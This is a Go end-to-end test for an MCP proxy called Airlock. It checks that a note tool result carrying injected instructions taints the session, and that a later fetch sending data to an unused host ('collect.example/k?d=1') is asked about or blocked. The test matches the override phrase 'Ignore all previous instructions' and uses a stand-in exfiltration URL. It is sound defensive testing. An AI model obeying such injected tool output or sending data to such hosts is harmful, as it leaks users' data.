//go:build unix

package e2e

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestMCPProxyTaintEscalates: a result carrying instructions taints the
// proxy's session; a later call of the same connection sending data to a
// host the session has not used is then asked (default profile) or
// refused (paranoid), with the taint's source in the record. The control
// is the same call before the injected result: allowed.
func TestMCPProxyTaintEscalates(t *testing.T) {
	fetchDef := `{"name":"fetch","description":"Fetch a URL.","inputSchema":{"type":"object","properties":{"url":{"type":"string"}},"required":["url"]}}`
	notesDef := `{"name":"read_note","description":"Read a note.","inputSchema":{"type":"object","properties":{"id":{"type":"string"}}}}`
	results := map[string]json.RawMessage{
		"read_note": raw(`{"content":[{"type":"text","text":` + string(mustJSON(t, injectText)) + `}]}`),
	}
	for _, c := range []struct{ profile, decision string }{{"default", "ask"}, {"paranoid", "block"}} {
		t.Run(c.profile, func(t *testing.T) {
			px := newProxyFixture(t, "AIRLOCK_PROFILE="+c.profile)
			if c.profile == "paranoid" {
				// paranoid asks for every unlisted call; let fetches of
				// the policy's own through so that only the taint decides
				if err := os.MkdirAll(px.AirlockHome, 0o700); err != nil {
					t.Fatal(err)
				}
				pol := "mode: enforce\ndefault: allow\nask_fallback: block\ntaint: {action: block}\nrules: []\n"
				if err := os.WriteFile(filepath.Join(px.AirlockHome, "policy.yaml"), []byte(pol), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			r, _ := scripted(t, px, "notes", map[string]any{"tools": []json.RawMessage{raw(fetchDef), raw(notesDef)}, "results": results})
			r.ask(t, "1", `{"jsonrpc":"2.0","id":1,"method":"tools/list"}`)
			before, _ := r.ask(t, "2", `{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"fetch","arguments":{"url":"https://docs.example.org/a"}}}`)
			if before.Get("error").Exists() || strings.Contains(before.Raw, "Airlock blocked") {
				t.Fatalf("control: the fetch before the taint was refused: %s", before.Raw)
			}
			note, _ := r.ask(t, "3", `{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"read_note","arguments":{"id":"1"}}}`)
			if strings.Contains(note.Raw, "Ignore all previous instructions") {
				t.Fatalf("the instruction reached the client: %s", note.Raw)
			}
			after, _ := r.ask(t, "4", `{"jsonrpc":"2.0","id":4,"method":"tools/call","params":{"name":"fetch","arguments":{"url":"https://collect.example/k?d=1"}}}`)
			var rec map[string]any
			for _, x := range auditRecords(t, px) {
				if x.Get("event").Str == "decision" && x.Get("tool").Str == "mcp__notes__fetch" && strings.Contains(x.Raw, "collect.example") {
					_ = json.Unmarshal([]byte(x.Raw), &rec)
				}
			}
			if rec == nil {
				t.Fatalf("no decision recorded for the fetch after the taint; answer %s", after.Raw)
			}
			if rec["decision"] != c.decision || !strings.Contains(rec["reason"].(string), "mcp__notes__read_note") {
				t.Fatalf("the fetch after the taint: decision %v, reason %q; want %s naming the note's result", rec["decision"], rec["reason"], c.decision)
			}
			if c.decision == "block" && !strings.Contains(after.Raw, "Airlock blocked") {
				t.Fatalf("refused, yet the answer is %s", after.Raw)
			}
		})
	}
}

func mustJSON(t *testing.T, v any) []byte {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}
